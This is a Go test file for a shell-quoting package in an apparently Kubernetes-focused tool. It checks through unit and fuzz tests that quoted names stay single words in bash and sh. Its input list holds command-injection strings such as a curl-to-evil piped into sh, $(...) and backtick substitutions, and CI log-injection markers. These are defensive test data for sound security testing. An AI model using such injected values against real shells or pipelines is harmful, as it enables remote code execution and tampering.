package remedy_test

import (
	"os/exec"
	"strings"
	"testing"
	"unicode/utf8"

	"kubeops.io/kubeops/internal/printable"
	"kubeops.io/kubeops/internal/remedy"
)

// hostileNames are values that a shell, a terminal or a CI system would act on.
func hostileNames() []string {
	return []string{
		"x;curl${IFS}evil|sh;#", "$(touch pwned)", "`touch pwned`", "it's", `say "hi"`, "a b", "two  spaces", " lead and trail ", "a\nb", "a\n",
		"\n::error::x", "-x", "--all", "-", "--", "~root", "=ls", "a&b", "a>b", "*", "?[x]", "{a,b}", "!x", "^a^b", "#x", "%s %d %!", `a\`,
		`\'`, `a\'b`, `'\''`, "x' \\", "\x1b[31m", "\u202egnp", "\u200b", "\xff\xfe", "Zl\u2028", "##vso[task.setvariable]x", "##[error]",
		"::error file=x::y", "日本", "é", "a=b", "$'x'", "$x", "\\", "'", "\"", "a'b\nc`d\\e", "-\n", "\t", "a\tb", "",
	}
}

// parsed returns the words that a shell reads in a command, without running it.
func parsed(t *testing.T, shell, words string) []string {
	t.Helper()
	script := `printf '%s\0' ` + words
	command := exec.CommandContext(t.Context(), shell, "-c", script)
	command.Dir = t.TempDir()
	out, err := command.Output()
	if err != nil {
		t.Errorf("%s -c %q: %v", shell, script, err)
	}
	return strings.Split(strings.TrimSuffix(string(out), "\x00"), "\x00")
}

// requireWord fails unless shells read a quoted value as one word: exactly the value, or in a shell without $'...' at least one word.
func requireWord(t *testing.T, value string) {
	t.Helper()
	quoted := remedy.Quote(value)
	if !printable.Is(quoted) || strings.Contains(quoted, "`") || printable.HasCommand(quoted) || strings.Contains(quoted, "  ") {
		t.Errorf("%q quoted is not printable: %q", value, quoted)
	}
	if got := parsed(t, "bash", quoted+" end"); len(got) != 2 || got[0] != value || got[1] != "end" {
		t.Errorf("bash reads %s as %q, want %q", quoted, got, value)
	}
	if got := parsed(t, "sh", quoted+" end"); len(got) != 2 || got[1] != "end" || !strings.Contains(quoted, "$'") && got[0] != value {
		t.Errorf("sh reads %s as %q, want %q", quoted, got, value)
	}
}

func TestQuotedWordIsTheValueInAShell(t *testing.T) {
	for _, name := range hostileNames() {
		requireWord(t, name)
	}
}

func TestHarmlessValuesAreNotQuoted(t *testing.T) {
	for _, name := range []string{"cart", "system:node:a", "registry.example/x@sha256:00", "a=b,c=d", "10%", "[x]"} {
		if got := remedy.Quote(name); (got != name) != (name == "[x]") {
			t.Errorf("%q became %q", name, got)
		}
	}
}

func FuzzQuotedWordIsTheValueInAShell(f *testing.F) {
	for _, name := range hostileNames() {
		f.Add(name)
	}
	f.Fuzz(func(t *testing.T, name string) {
		if !strings.Contains(name, "\x00") && len(name) < 4096 { // the kernel passes on no NUL
			requireWord(t, name)
		}
	})
}

func TestSprintfQuotesByPlace(t *testing.T) {
	const name = `x';"` + "`"
	for format, want := range map[string]string{
		"Delete %[1]s: `kubectl delete role %[1]s`.":       `Delete x';"\x60: ` + "`kubectl delete role $'x\\047;\"\\140'`.",
		"`kubectl patch x -p '{\"a\":\"%[2]s\"}'`":         "`kubectl patch x -p '{\"a\":\"''it'\\''s '\\\\'\"q'\\\\'\"''\"}'`",
		"`kubectl get x -o jsonpath='{.data.%[3]s}' -n a`": "`kubectl get x -o jsonpath='{.data.a b}' -n a`",
		"`a \"%[3]s\"`":                  "`a \"\"'a b'\"\"`",
		"`kubectl taint x a=%[3]s`":      "`kubectl taint x a='a b'`",
		"%[4]s: `%[4]s get pods`, 100%%": "kubectl -n a: `kubectl -n a get pods`, 100%",
		"Run %[5]s and `echo %[5]s`":     "Run `x y` and `echo $'\\140x y\\140'`",
	} {
		args := []any{name, name, "a b", remedy.Words("kubectl -n a"), remedy.Text("`x y`")}
		if strings.Contains(format, "[2]") {
			args[1] = `it's "q"`
		}
		if got := string(remedy.Sprintf(format, args...)); got != want {
			t.Errorf("%s\ngot  %s\nwant %s", format, got, want)
		}
	}
}

func TestNameWithALeadingDashIsNoFlag(t *testing.T) {
	const name = "-x"
	for format, want := range map[string]string{
		"kubectl -n %s get pods":                          "kubectl -n -x get pods", // the value of a flag may begin with a dash
		"kubectl -n a delete rolebinding %s":              "kubectl -n a delete rolebinding -- -x",
		"kubectl patch pvc %s --type=merge -p '{}'":       "kubectl patch pvc --type=merge -p '{}' -- -x",
		"kubectl label node %s a=b --overwrite":           "kubectl label node --overwrite -- -x a=b",
		"kubectl get pod %s -o yaml | kubectl apply -f -": "kubectl get pod -o yaml -- -x | kubectl apply -f -",
		"kubectl exec pod %s -- ls -l":                    "kubectl exec pod/-x -- ls -l",
		"kubectl get pods -l %s":                          "kubectl get pods -l -x",
		"kubectl logs job/%s":                             "kubectl logs job/-x",
		"kubectl create role r --resource=%s":             "kubectl create role r --resource=-x",
	} {
		if got := string(remedy.Command(format, name)); got != want {
			t.Errorf("%s\ngot  %s\nwant %s", format, got, want)
		}
		if got := string(remedy.Sprintf("Run `"+format+"`.", name)); got != "Run `"+want+"`." {
			t.Errorf("%s: got %s", format, got)
		}
	}
}

func TestWordsOfManyValues(t *testing.T) {
	if got := remedy.Quoted("a", "b c").Code(); got != "`a 'b c'`" {
		t.Errorf("got %s", got)
	}
	if got := remedy.Quoted("a", "-b"); got != "-- a -b" {
		t.Errorf("got %s", got)
	}
	if got := remedy.Join([]remedy.Text{"a", "b"}, "; "); got != "a; b" {
		t.Errorf("got %s", got)
	}
}

// FuzzPlaces checks that a value in any place of a command stays within its word.
func FuzzPlaces(f *testing.F) {
	for _, name := range hostileNames() {
		f.Add(name)
	}
	f.Fuzz(func(t *testing.T, name string) {
		if strings.Contains(name, "\x00") || len(name) > 4096 {
			return
		}
		text := string(remedy.Sprintf("About %s: `cmd a=%s '{.data.%s}' \"%s\" %s`.", name, name, name, name, name))
		_, code, _ := strings.Cut(text, "`")
		code, rest, ok := strings.Cut(code, "`")
		if !ok || rest != "." || !printable.Is(text) {
			t.Fatalf("%q", text)
		}
		want := []string{"cmd", "a=" + name, "{.data." + name + "}", name, name}
		if strings.HasPrefix(name, "-") {
			want = []string{"cmd", "a=" + name, "{.data." + name + "}", name, "--", name}
		}
		got := parsed(t, "bash", code)
		if strings.Join(got, "\x00") != strings.Join(want, "\x00") {
			t.Errorf("%s\ngot  %q\nwant %q", code, got, want)
		}
		if !utf8.ValidString(name) {
			return
		}
		text = string(remedy.Command(`cmd '{"a":"%s"}' "x"`, name))
		if got := parsed(t, "bash", text); len(got) != 3 || got[2] != "x" {
			t.Errorf("%s is read as %q", text, got)
		}
	})
}
